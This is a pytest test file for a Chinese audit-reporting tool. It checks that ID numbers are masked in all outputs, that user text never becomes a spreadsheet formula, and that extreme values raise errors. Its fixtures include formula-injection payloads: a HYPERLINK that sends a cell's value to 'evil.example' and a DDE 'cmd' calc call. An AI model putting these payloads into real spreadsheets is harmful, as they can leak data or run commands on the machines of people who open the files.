"""Issue 26 items 1, 2 and 4: no 身份证号码 in any written form, user text is text, bounded values.

One hostile corpus goes through validate, rollup, letters and the year-end reports once
(module fixture); the assertions below read its outputs: every file unzipped, every file
name, the JSON and the console.
"""

from __future__ import annotations

import datetime as dt
import html
import json
import random
import sqlite3
import zipfile
from pathlib import Path
from typing import Any

import pytest

from addin.demo.group import uscc as make_uscc
from addin.plumbing.redact import find_ids, mask, redact
from addin.workbook.samples import SAMPLE_INFO, SAMPLE_RECORDS
from addin.workbook.templates import build_template, default_options

HOSTILE = "11010519491231002X"
"""A valid ID (check character X) written only into free text, names and choice cells."""
FORMS = {
    "nbsp": "110105\u00a019491231\u00a0002X",
    "tab": "110105\t19491231\t002X",
    "colon": "110105：19491231：002X",
    "comma": "110105,19491231,002X",
    "dash": "110105 - 19491231 - 002X",
    "parentheses": "(110105)(19491231)(002X)",
    "zero-width": "1101\u200b0519\u200b4912\u200b3100\u200b2X",
    "letters": "ID11010519491231002Xabc",
    "longer": "9911010519491231002X",
    "chinese": "一一〇一〇五一九四九一二三一〇〇二X",
    "capital": "壹壹零壹零伍壹玖肆玖壹贰叁壹零零贰X",
    "circled": "①①⓪①⓪⑤①⑨④⑨①②③①⓪⓪②X",
    "superscript": "¹¹⁰¹⁰⁵¹⁹⁴⁹¹²³¹⁰⁰²X",
    "full-width": "１１０１０５１９４９１２３１００２Ｘ",
    "arabic-indic": "١١٠١٠٥١٩٤٩١٢٣١٠٠٢X",
    "lower-x": "11010519491231002x",
    "old-15": "110105491231002",
}
FORMULAS = ['=HYPERLINK("http://evil.example/"&B2,"详情")', "=cmd|' /C calc'!A0", "{=1+1}"]
ORDINARY = [
    "金额 12345678901234 元，合计 1,234,567,890.12 万元",
    "统一社会信用代码 91510100MA61R8XK49，另 911100001000012345",
    "电话 13800138000、010-12345678，传真 028-86001234",
    "2026年11月23日、2026-11-23、20261123 至 20261231",
    "订单号 20261123000123456789，合同号 HT-2026-000123",
    "合计 123456789012345678901234567890",
]


# -- the function itself ----------------------------------------------------------------------------


@pytest.mark.parametrize("form", list(FORMS), ids=list(FORMS))
def test_every_form_is_found_and_masked(form: str) -> None:
    text = f"当事人（{FORMS[form]}）未经审批"
    (found,) = find_ids(text)
    assert found.number in (HOSTILE, HOSTILE[:6] + HOSTILE[8:17])
    masked = redact(text)
    assert masked.startswith("当事人（") and masked.endswith("）未经审批") or form == "parentheses"
    assert mask(found.number) in masked and not find_ids(masked)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_numbers_stay(text: str) -> None:
    assert redact(text) == text and find_ids(text) == []


def test_mistyped_id_is_still_masked_but_its_neighbours_stay() -> None:
    assert redact("E12：510104198003150019 校验位") == "E12：5101**********0019 校验位"  # wrong check digit
    assert redact("身份证号码“51010419800315001X”有误") == "身份证号码“5101**********001X”有误"
    assert redact("9911010519491231002X88") == "991101**********002X88"  # inside a longer number
    assert redact("12345678901234567X") == "12345678901234567X"  # no plausible birth date


# -- the hostile corpus, once ------------------------------------------------------------------------


def _records(clue: str) -> dict[str, list[dict[str, Any]]]:
    records = {key: [dict(r) for r in rows] for key, rows in SAMPLE_RECORDS.items()}
    for rows in records.values():
        for row in rows:
            if row.get("clue_id") == "XS-2026-001":
                row["clue_id"] = clue
    return records


def _book(path: Path, unit: str, seed: int, change: Any = None, **info: Any) -> Path:
    records = _records("XS-2026-001")
    if change:
        change(records)
    facts = dict(SAMPLE_INFO, unit_name=unit, uscc=make_uscc(random.Random(seed)), **info)
    return build_template(path, default_options("central-2026", rows=10), facts, records)


def _hostile(records: dict[str, list[dict[str, Any]]]) -> None:
    forms = list(FORMS.values())
    records.update(_records(f"XS-{FORMS['dash']}"))  # an ID inside 线索编号 reaches file names
    clue = records["clues"][0]
    clue["summary"] = "当事人" + "；".join(forms[:9]) + "未经审批开展融资性贸易"
    clue["unit_name"] = "示例能源销售公司" + FORMS["zero-width"]
    records["clues"][1]["summary"] = "举报人" + "；".join(forms[9:]) + "反映问题"
    letter = records["recommendations"][0]
    letter["main_problems"] = f"融资性贸易（经办人 {FORMS['tab']}）造成损失"
    letter["regulatory_risks"] = f"客户信用管理漏洞，{FORMS['chinese']}"
    letter["suggestions"] = f"完善负面清单 {FORMS['full-width']}"
    letter["recipient"] = f"示例能源销售公司{FORMS['letters']}"
    records["rectification"][0]["description"] = f"应收账款 {FORMS['nbsp']} 长期挂账"
    records["bans"][0]["facts"] = f"违规开展融资性贸易（{FORMS['comma']}）"


def _choice(records: dict[str, list[dict[str, Any]]]) -> None:
    records["clues"][0]["source"] = FORMS["colon"]  # a choice cell quoted in the message


def _bounds(records: dict[str, list[dict[str, Any]]]) -> None:
    records["bans"][0]["term"] = "9999年"
    records["accountability"][0]["pay_base"] = 1e308
    records["clues"][0]["unit_name"] = "长" * 260


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    from addin import cli

    root = tmp_path_factory.mktemp("redact")
    inputs = root / "inputs"
    inputs.mkdir()
    hostile = _book(inputs / "A单位.xlsx", f"示例能源{FORMS['superscript']}有限公司", 11, _hostile)
    _book(inputs / "B单位.xlsx", f"乙单位{FORMS['circled']}", 12, _choice)
    for k, formula in enumerate(FORMULAS):
        _book(inputs / f"C{k}单位.xlsx", formula, 20 + k)
    bounds = root / "bounds"
    bounds.mkdir()
    _book(bounds / "D单位.xlsx", "丁" * 300, 30, _bounds, report_date=dt.date.today() + dt.timedelta(days=40 * 365))
    out = root / "out"
    archive = root / "归档.sqlite"
    console: list[tuple[str, int, str]] = []

    def command(*args: Any) -> int:
        import contextlib
        import io

        stdout, stderr = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            code = cli.main([str(a) for a in args])
        console.append((" ".join(map(str, args[:2])), code, stdout.getvalue() + stderr.getvalue()))
        return code

    command("validate", inputs, "--json", out / "validate.json", "--annotate", out / "annotated")
    command("validate", bounds, "--json", out / "bounds.json")
    command("rollup", inputs, "--out", out / "集团汇总.xlsx", "--sasac", out / "国资委报表.xlsx",
            "--json", out / "rollup.json", "--archive", archive, "--as-of", "2026-11-23")
    command("rollup", bounds, "--out", out / "bounds.xlsx", "--archive", root / "bounds.sqlite")
    command("letters", hostile, "--out", out / "letters")
    command("letters", bounds / "D单位.xlsx", "--out", out / "letters-bounds")
    command("report", "periodic", "--period", "2026-年度", "--archive", archive, "--out", out / "periodic")
    command("report", "periodic", "--period", "2026-年度", "--kind", "专项报告", "--archive", archive,
            "--out", out / "special")
    command("report", "cases", "--period", "2026-年度", "--mask-names", "--archive", archive, "--out", out / "cases")
    command("barred", "check", "510106197811230033", "--purpose", f"拟任董事，另查 {FORMS['dash']}",
            "--archive", archive, "--as-of", "2026-11-23")
    command("barred", "log", "--archive", archive)
    return {"root": root, "out": out, "archive": archive, "console": console, "inputs": inputs}


def _texts(path: Path) -> dict[str, str]:
    """Every part of a package, as text (entities resolved); or the file itself."""
    if path.suffix in (".xlsx", ".docx"):
        with zipfile.ZipFile(path) as package:
            return {name: html.unescape(package.read(name).decode("utf-8", errors="replace"))
                    for name in package.namelist()}
    return {path.name: path.read_text(encoding="utf-8", errors="replace")}


def _outputs(run: dict[str, Any]) -> list[Path]:
    return sorted(p for p in run["out"].rglob("*") if p.is_file())


def test_the_corpus_ran_without_a_traceback(run: dict[str, Any]) -> None:
    for name, code, text in run["console"]:
        assert "Traceback" not in text, (name, text[-2000:])
        # 2: the bounds roll-up accepts nothing (its only file is refused), which says so by its exit code
        assert code in ((0, 1, 2) if name.startswith(f"rollup {run['root'] / 'bounds'}") else (0, 1)), \
            (name, code, text[-2000:])
    assert [code for name, code, _ in run["console"] if name.startswith("rollup")] == [1, 2]  # B refused; D alone
    names = {p.name for p in _outputs(run)}
    assert {"集团汇总.xlsx", "国资委报表.xlsx", "rollup.json", "validate.json"} <= names
    assert any(p.suffix == ".docx" for p in (run["out"] / "letters").iterdir())
    assert any(p.suffix == ".docx" for p in (run["out"] / "periodic").iterdir())
    assert any(p.suffix == ".docx" for p in (run["out"] / "cases").iterdir())


def test_no_id_in_any_output_file_name_json_or_console(run: dict[str, Any]) -> None:
    for path in _outputs(run):
        assert not find_ids(str(path.relative_to(run["root"]))), path
        if "annotated" in path.parts:  # the unit's own workbook: only what we added is checked
            parts = {k: v for k, v in _texts(path).items() if "comments" in k or k.endswith("sheet1.xml")}
        else:
            parts = _texts(path)
        for part, text in parts.items():
            found = [f.number for f in find_ids(text)]
            if path.name == "集团汇总.xlsx":  # HQ-internal: its 身份证号码 columns keep the numbers in clear
                assert HOSTILE not in found and HOSTILE[:6] + HOSTILE[8:17] not in found, part
            else:
                assert not found, (path.name, part, found)
    for name, _, text in run["console"]:
        assert not find_ids(text), (name, text[-2000:])


def test_the_validator_warns_of_an_id_in_a_text_cell(run: dict[str, Any]) -> None:
    report = json.loads((run["out"] / "validate.json").read_text(encoding="utf-8"))
    by_file = {Path(f["path"]).name: f for f in report["files"]}
    warnings = by_file["A单位.xlsx"]["warnings"]
    cells = {(p["sheet"], p["cell"]) for p in warnings if p["code"] == "ZZ-ID-IN-TEXT"}
    assert {("填报信息", "B2"), ("问题线索台账", "H2"), ("问题线索台账", "H3"), ("管理提升建议书", "E2")} <= cells
    assert by_file["A单位.xlsx"]["status"] != "invalid"  # a warning: the file is still taken
    assert {p["code"] for p in by_file["B单位.xlsx"]["errors"]} >= {"ZZ-ENUM"}
    assert by_file["C0单位.xlsx"]["status"] != "invalid"


def test_user_text_is_never_a_formula_or_a_link(run: dict[str, Any]) -> None:
    for path in _outputs(run):
        if path.suffix != ".xlsx":
            continue
        for part, text in _texts(path).items():
            assert "evil.example" not in "".join(t for t in text.split("<f>")[1:]), (path.name, part)
            for formula in ("HYPERLINK", "cmd|", "1+1"):
                assert f"<f>{formula}" not in text and "<f>" + formula[1:] not in text, (path.name, part)
            if part.endswith(".rels"):
                assert "evil.example" not in text, (path.name, part)
    sasac = _texts(run["out"] / "国资委报表.xlsx")
    sheets = "".join(v for k, v in sasac.items() if k.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "hyperlink" not in sheets.lower()
    strings = "".join(sasac.values())
    for formula in FORMULAS:
        assert html.escape(formula, quote=False) in html.escape(strings, quote=False) or formula in strings, formula


def test_bounds_are_errors_not_crashes(run: dict[str, Any]) -> None:
    report = json.loads((run["out"] / "bounds.json").read_text(encoding="utf-8"))
    (file,) = report["files"]
    assert file["status"] == "invalid"
    problems = file["errors"]
    codes = {p["code"] for p in problems}
    assert {"ZZ-AMOUNT-LIMIT", "ZZ-DATE-FUTURE", "ZZ-LENGTH", "ZZ-ENUM"} <= codes
    assert any("9999年" in p["message"] for p in problems if p["code"] == "ZZ-ENUM")
    lengths = {p["cell"] for p in problems if p["code"] == "ZZ-LENGTH"}
    assert len(lengths) == 2  # 填报单位名称 (300) and 涉事单位名称 (260)


def test_letters_with_long_names_do_not_crash() -> None:
    from addin.documents.gbt9704 import CORE_PROPERTY_LIMIT, OfficialDocument

    doc = OfficialDocument()
    doc.describe(title="关于" + "长" * 300 + "的报告", author="丁" * 300, subject=FORMS["tab"])
    props = doc.doc.core_properties
    assert len(props.title) == len(props.author) == CORE_PROPERTY_LIMIT
    assert not find_ids(props.subject)


def test_amount_and_term_limits_at_the_boundary() -> None:
    from addin.validation.checks import ban_term_ok

    assert ban_term_ok("100年") and not ban_term_ok("101年") and not ban_term_ok("9999年")
    assert ban_term_ok("5年") and not ban_term_ok("4年") and ban_term_ok("终身")


def test_purpose_log_masks_every_form(run: dict[str, Any]) -> None:
    db = sqlite3.connect(run["archive"])
    try:
        purposes = [p for (p,) in db.execute("SELECT purpose FROM barred_queries")]
    finally:
        db.close()
    assert purposes and all(not find_ids(p) for p in purposes)
    assert any("1101**********002X" in p for p in purposes)


def test_a_bad_archived_row_is_skipped_by_number_never_printed(run: dict[str, Any], tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    import shutil

    from addin import cli
    from addin.rollup import barred

    archive = tmp_path / "归档.sqlite"
    shutil.copy(run["archive"], archive)
    db = sqlite3.connect(archive)
    try:
        (sid,) = db.execute("SELECT id FROM submissions ORDER BY id LIMIT 1").fetchone()
        bad_term = {"姓名": "赵某", "身份证号码": "510107198501010015", "禁入期限": "9999年", "起始日期": "2026-07-01"}
        db.execute("INSERT INTO rows VALUES (?, '禁入限制人员', 901, ?)", (sid, json.dumps(bad_term, ensure_ascii=False)))
        db.execute("INSERT INTO rows VALUES (?, '禁入限制人员', 902, ?)", (sid, '{"身份证号码": "510107198501010015", \x01'))
        db.execute("INSERT INTO rows VALUES (?, '问题线索台账', 903, ?)", (sid, '{"线索编号": "510107198501010015'))
        db.commit()
    finally:
        db.close()
    capsys.readouterr()
    assert barred.register(archive)  # the good rows still there
    for args in (["barred", "check", "510106197811230033", "--purpose", "拟任董事", "--archive", archive],
                 ["report", "periodic", "--period", "2026-年度", "--archive", archive, "--out", tmp_path / "p"]):
        code = cli.main([str(a) for a in args])
        out, err = capsys.readouterr()
        assert code == 0 and "Traceback" not in out + err, err
        assert "第 901 行" in err and "第 902 行" in err
        assert "510107" not in out + err and "赵某" not in out + err


def test_a_fresh_service_answers_every_barred_query(tmp_path: Path) -> None:
    from starlette.testclient import TestClient

    from addin.web.app import create_app
    from addin.web.service import Config
    from web_cases import add_accounts, csrf_of, login

    app = create_app(Config(data=tmp_path / "data"))
    add_accounts(app.state.service)
    with TestClient(app) as client:
        login(client, "hq")
        for purpose in ("拟任董事", f"拟任监事 {FORMS['nbsp']}"):
            page = client.get("/barred")
            answer = client.post("/barred", data={"csrf": csrf_of(page.text), "id": "510106197811230033",
                                                  "purpose": purpose})
            assert answer.status_code == 200, answer.text[-500:]
            assert "未查到" in answer.text and not find_ids(answer.text)


def test_web_pages_and_json_answers_are_redacted() -> None:
    from addin.web.app import _environment
    from addin.web.json_out import JSONResponse

    env = _environment()
    page = env.from_string("<p>{{ unit }}</p>{{ verdict | tojson_text }}").render(
        unit=FORMS["tab"], verdict={"message": FORMS["chinese"], FORMS["dash"]: 1})
    assert "<p>1101**********002X</p>" in page and not find_ids(html.unescape(page))
    body = JSONResponse({"unit": FORMS["circled"], "rows": [FORMS["full-width"]]}).body.decode("utf-8")
    assert not find_ids(body) and "1101**********002X" in body


def test_calc_past_9999_is_a_chinese_error() -> None:
    from addin.web import core

    ok, text = core.calc("ZZ_INVESTIGATION_DEADLINE", ["9999-10-31"])
    assert not ok and text.startswith("#参数错误") and "9999" in text
    assert core.calc("ZZ_INVESTIGATION_DEADLINE", ["9999-06-30"]) == (True, "9999-12-30")
